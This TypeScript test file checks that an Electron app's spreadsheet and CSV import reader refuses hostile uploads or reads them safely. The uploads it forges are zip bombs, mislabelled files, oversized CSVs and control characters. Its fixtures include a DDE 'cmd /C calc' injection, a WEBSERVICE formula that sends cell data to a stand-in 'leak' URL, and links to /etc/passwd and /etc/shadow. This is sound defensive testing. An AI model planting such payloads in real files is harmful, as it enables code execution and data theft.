// Hostile files against the shared import-safety reader (electron/core/imports/read-upload.ts) that the
// attendees and awards importers use: zip bombs (honest and lying), files that are not xlsx but named
// so, an xlsx with formulas and external links, a 50 MB CSV, NUL and control characters that must not
// reach the XML of a generated document.
import { deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { Document, Packer, Paragraph, TextRun } from 'docx';
import { describe, expect, it } from 'vitest';
import { uploadedFile } from '../../shared/api/files';
import { AppError } from '../../shared/api/result';
import { classify, readCsvRows, readUploadRows, readXlsxRows, UPLOAD_LIMITS } from '../../electron/core/imports/read-upload';
import { looksVietnamese } from '../helpers/fuzz';

/** A minimal zip writer, so tests can forge the sizes a zip declares. */
function zip(entries: Array<{ name: string; data: Buffer; declaredSize?: number }>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const packed = deflateRawSync(e.data);
    const size = e.declaredSize ?? e.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += 30 + name.length + packed.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const XLSX_SKELETON = [
  { name: '[Content_Types].xml', data: Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>') },
  { name: 'xl/workbook.xml', data: Buffer.from('<?xml version="1.0"?><workbook/>') },
];

let tried = 0;
function refused(run: () => unknown, pattern: RegExp): void {
  tried += 1;
  let error: unknown = null;
  try {
    run();
  } catch (e) {
    error = e;
  }
  expect(error).toBeInstanceOf(AppError);
  expect((error as AppError).code).toBe('VALIDATION');
  expect(looksVietnamese((error as AppError).message)).toBe(true);
  expect((error as AppError).message).toMatch(pattern);
}

async function refusedAsync(run: () => Promise<unknown>, pattern: RegExp): Promise<void> {
  tried += 1;
  const error = await run().then(() => null, (e: unknown) => e);
  expect(error).toBeInstanceOf(AppError);
  expect((error as AppError).message).toMatch(pattern);
}

/** XML 1.0 Char production: what must never appear in word/document.xml. */
const NOT_XML_CHAR = {
  test(text: string): boolean {
    // Iterating a string yields whole code points, so a lone surrogate is one item of its own.
    return [...text].some((ch) => {
      const c = ch.codePointAt(0)!;
      return (c < 0x20 && c !== 0x09 && c !== 0x0a && c !== 0x0d) || c === 0xfffe || c === 0xffff || (c >= 0xd800 && c <= 0xdfff);
    });
  },
};

describe('hostile files', () => {
  it('zip bombs: an honest 150 MB one and one that lies about its size are refused before parsing', async () => {
    const zeros = Buffer.alloc(150 * 1024 * 1024, 0x3c);
    const honest = zip([...XLSX_SKELETON, { name: 'xl/worksheets/sheet1.xml', data: zeros }]);
    const lying = zip([...XLSX_SKELETON, { name: 'xl/worksheets/sheet1.xml', data: zeros, declaredSize: 1000 }]);
    const many = zip([...XLSX_SKELETON, ...Array.from({ length: UPLOAD_LIMITS.maxZipEntries + 1 }, (_, i) => ({ name: `xl/x${i}.xml`, data: Buffer.from('a') }))]);
    expect(honest.length).toBeLessThan(1024 * 1024);
    refused(() => classify('danh-sach.xlsx', honest), /giải nén ra quá lớn/);
    refused(() => classify('danh-sach.xlsx', lying), /giải nén ra quá lớn/);
    refused(() => classify('danh-sach.xlsx', many), /giải nén ra quá lớn/);
    await refusedAsync(() => readXlsxRows(lying), /giải nén ra quá lớn/);
  }, 60_000);

  it('files that are not xlsx but are named .xlsx are refused with a clear message', async () => {
    const docx = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('Giấy mời')] }] }));
    const good = await realXlsx();
    const cases: Array<[string, Buffer]> = [
      ['random', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256))],
      ['pdf', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj<<>>endobj\n')],
      ['csv', Buffer.from('Họ và tên,Chức vụ\nNguyễn Văn An,Trưởng Công an xã\n')],
      ['docx', Buffer.from(docx)],
      ['truncated', good.subarray(0, Math.floor(good.length / 2))],
      ['empty zip', zip([])],
      ['sqlite', Buffer.from('SQLite format 3\u0000' + 'x'.repeat(100))],
    ];
    for (const [, bytes] of cases) refused(() => classify('danh-sach-dai-bieu.xlsx', bytes), /không phải bảng tính Excel|Tệp trống/);
    refused(() => classify('danh-sach.exe', good), /Chỉ nhận tệp Excel/);
    refused(() => classify('danh-sach.csv', Buffer.from('%PDF-1.4')), /không phải tệp văn bản CSV/);
    refused(() => classify('danh-sach.xlsx', Buffer.alloc(0)), /Tệp trống/);
  });

  it('an xlsx with formulas and external links: cached values only, nothing evaluated or followed', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Đại biểu');
    ws.addRow(['Họ và tên', 'Số', 'Liên kết', 'Ngoài']);
    ws.addRow(['Nguyễn Văn An', { formula: 'SUM(1,2)', result: 3 }, { text: 'Bấm vào đây', hyperlink: 'file:///etc/passwd' }, { formula: "'[mat-khau.xlsx]Sheet1'!A1", result: 'giá trị cũ' }]);
    ws.addRow(['=cmd|\' /C calc\'!A0', { formula: 'WEBSERVICE("http://example.invalid/?leak="&A2)', result: '' }, '', '']);
    const base = Buffer.from(await wb.xlsx.writeBuffer());
    const zipped = await JSZip.loadAsync(base);
    zipped.file('xl/externalLinks/externalLink1.xml', '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></externalLink>');
    zipped.file('xl/externalLinks/_rels/externalLink1.xml.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/shadow" TargetMode="External"/></Relationships>');
    const bytes = await zipped.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    tried += 1;
    const result = await readUploadRows({ fileName: 'dai-bieu.xlsx', dataBase64: bytes.toString('base64') });
    expect(result.kind).toBe('xlsx');
    expect(result.rows[1]).toEqual(['Nguyễn Văn An', '3', 'Bấm vào đây', 'giá trị cũ']);
    expect(result.rows[2]![0]).toBe("=cmd|' /C calc'!A0"); // text stays text
    expect(result.formulas).toBe(3);
    expect(result.externalLinks).toBe(true);
    expect(JSON.stringify(result.rows)).not.toMatch(/root:/);
  });

  it('a 50 MB CSV is refused by size, at the API schema and in the reader, without being parsed', () => {
    const line = 'Nguyễn Văn An,Trưởng Công an xã,Xã Hải Hậu,0912345678\n';
    const big = Buffer.from(line.repeat(Math.ceil((50 * 1024 * 1024) / Buffer.byteLength(line))));
    expect(big.length).toBeGreaterThanOrEqual(50 * 1024 * 1024);
    tried += 1;
    const schema = uploadedFile.safeParse({ fileName: 'dai-bieu.csv', dataBase64: big.toString('base64') });
    expect(schema.success).toBe(false);
    expect(schema.error?.issues[0]?.message).toBe('Tệp quá lớn (tối đa khoảng 20 MB).');
    refused(() => classify('dai-bieu.csv', big), /Tệp quá lớn \(tối đa 20 MB\)/);
  });

  it('a CSV that is not UTF-8 gets a message telling how to save it from Excel', () => {
    const latin = Buffer.from([0x48, 0xe0, 0x20, 0x4e, 0xe9, 0x69, 0x0a]); // windows-125x bytes
    refused(() => readCsvRows(latin), /CSV UTF-8/);
    const surrogate = Buffer.from([0x41, 0xed, 0xa0, 0x80, 0x0a]); // an encoded lone surrogate
    refused(() => readCsvRows(surrogate), /CSV UTF-8/);
  });

  it('NUL and control characters in imported text never reach the XML of a generated document', async () => {
    const hostile = 'Nguy\u0000ễn V\u0001ăn\u000B A\u001Fn\u007F\u0085\uFFFE';
    const csv = Buffer.from(`\uFEFFHọ và tên;Ghi chú\n"${hostile}";"dòng 1\u0007\ndòng 2"\n`);
    tried += 1;
    const { rows } = readCsvRows(csv);
    expect(rows[1]).toEqual(['Nguyễn Văn An', 'dòng 1\ndòng 2']);
    // xlsx cells too. Excel stores control characters escaped (_x0001_); a writer that puts them raw
    // makes invalid XML, which is refused with the "not a valid xlsx" message rather than half-read.
    const escaped = new ExcelJS.Workbook();
    escaped.addWorksheet('A').addRow(['Nguy_x0000_ễn V_x0001_ăn_x000B_ A_x001F_n']);
    tried += 1;
    const fromXlsx = await readXlsxRows(Buffer.from(await escaped.xlsx.writeBuffer()));
    expect(NOT_XML_CHAR.test(fromXlsx.rows[0]![0]!)).toBe(false);
    const raw = new ExcelJS.Workbook();
    raw.addWorksheet('A').addRow([hostile]);
    const rawBytes = Buffer.from(await raw.xlsx.writeBuffer());
    await refusedAsync(() => readXlsxRows(rawBytes), /không phải bảng tính Excel/);

    // Into a real .docx: the normalised text yields valid XML characters only; the raw text would not.
    const docXml = async (text: string) => {
      const buffer = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph({ children: [new TextRun(text)] })] }] }));
      return (await JSZip.loadAsync(buffer)).file('word/document.xml')!.async('string');
    };
    expect(NOT_XML_CHAR.test(await docXml(hostile))).toBe(true); // the hazard is real
    const xml = await docXml(rows[1]![0]!);
    expect(NOT_XML_CHAR.test(xml)).toBe(false);
    expect(xml).toContain('Nguyễn Văn An');
    console.log(`[hostile] ${tried} hostile files tried: every one refused with a Vietnamese message or read safely; nothing evaluated, no link followed, no control character reached document XML.`);
  });
});

async function realXlsx(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  wb.addWorksheet('A').addRow(['Họ và tên', 'Chức vụ']);
  return Buffer.from(await wb.xlsx.writeBuffer());
}
